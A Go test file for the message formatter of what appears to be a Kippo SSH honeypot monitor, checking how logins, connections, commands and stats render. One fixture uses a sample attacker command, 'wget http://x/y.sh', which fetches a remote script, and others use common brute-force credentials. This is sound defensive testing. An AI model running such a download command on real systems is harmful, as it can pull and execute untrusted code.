package format

import (
	"strings"
	"testing"

	"github.com/xBLACKSTONE/xKippo-lite/internal/parser"
	"github.com/xBLACKSTONE/xKippo-lite/internal/stats"
)

func TestFormatEvent_Login(t *testing.T) {
	f := NewFormatter(false)

	msg := f.FormatEvent(&parser.ParsedEvent{
		Kind: parser.KindLogin,
		IP:   "35.240.141.162",
		Login: &parser.LoginDetails{
			Username:  "root",
			Password:  "Passw0rd",
			Succeeded: true,
		},
	}, "")

	for _, want := range []string{"LOGIN", "SUCCESS", "35.240.141.162", "'root'", "'Passw0rd'"} {
		if !strings.Contains(msg, want) {
			t.Errorf("Expected message to contain %q, got %q", want, msg)
		}
	}
}

func TestFormatEvent_LoginMissingDetails(t *testing.T) {
	f := NewFormatter(false)

	// Kind matched but extraction failed: render "unknown", not empty
	msg := f.FormatEvent(&parser.ParsedEvent{Kind: parser.KindLogin}, "")

	if !strings.Contains(msg, "FAILED") {
		t.Errorf("Login without details renders as FAILED, got %q", msg)
	}
	if strings.Count(msg, "unknown") != 3 {
		t.Errorf("Expected ip/user/password to render as 'unknown', got %q", msg)
	}
}

func TestFormatEvent_Connection(t *testing.T) {
	f := NewFormatter(false)

	evt := &parser.ParsedEvent{
		Kind:      parser.KindConnection,
		IP:        "1.2.3.4",
		SessionID: "abc123",
	}

	msg := f.FormatEvent(evt, "Paris, France (FR)")
	if !strings.Contains(msg, "1.2.3.4") || !strings.Contains(msg, "abc123") {
		t.Errorf("Missing connection fields in %q", msg)
	}
	if !strings.Contains(msg, "Paris, France (FR)") {
		t.Errorf("Expected location in %q", msg)
	}

	// Without a location the suffix disappears entirely
	msg = f.FormatEvent(evt, "")
	if strings.Contains(msg, "[") {
		t.Errorf("Expected no location suffix, got %q", msg)
	}
}

func TestFormatEvent_Command(t *testing.T) {
	f := NewFormatter(false)

	msg := f.FormatEvent(&parser.ParsedEvent{
		Kind:      parser.KindCommand,
		IP:        "1.2.3.4",
		SessionID: "s1",
		Command:   &parser.CommandDetails{Command: "wget http://x/y.sh"},
	}, "")

	if !strings.Contains(msg, "'wget http://x/y.sh'") {
		t.Errorf("Expected verbatim command in %q", msg)
	}
}

func TestFormatEvent_UnknownIsSilent(t *testing.T) {
	f := NewFormatter(true)
	if msg := f.FormatEvent(&parser.ParsedEvent{Kind: parser.KindUnknown}, ""); msg != "" {
		t.Errorf("Unknown events produce no message, got %q", msg)
	}
}

func TestFormatEvent_Colors(t *testing.T) {
	plain := NewFormatter(false)
	colored := NewFormatter(true)

	evt := &parser.ParsedEvent{
		Kind:  parser.KindLogin,
		IP:    "1.2.3.4",
		Login: &parser.LoginDetails{Username: "root", Password: "x", Succeeded: false},
	}

	if strings.Contains(plain.FormatEvent(evt, ""), "\x03") {
		t.Error("Plain formatter must not emit color codes")
	}
	if !strings.Contains(colored.FormatEvent(evt, ""), "\x03") {
		t.Error("Colored formatter must emit color codes")
	}
}

func TestFormatStats(t *testing.T) {
	f := NewFormatter(false)

	msg := f.FormatStats(stats.Report{
		Period:       "5min",
		Connections:  42,
		UniqueIPs:    7,
		TopUsernames: []string{"root", "admin", "pi", "guest", "user"},
		TopPasswords: []string{"123456", "password"},
	})

	for _, want := range []string{"STATS (5min)", "Connections: 42", "Unique IPs: 7", "root, admin, pi", "123456, password"} {
		if !strings.Contains(msg, want) {
			t.Errorf("Expected %q in %q", want, msg)
		}
	}
	if strings.Contains(msg, "guest") {
		t.Errorf("Top lists in the summary are capped at 3, got %q", msg)
	}
}
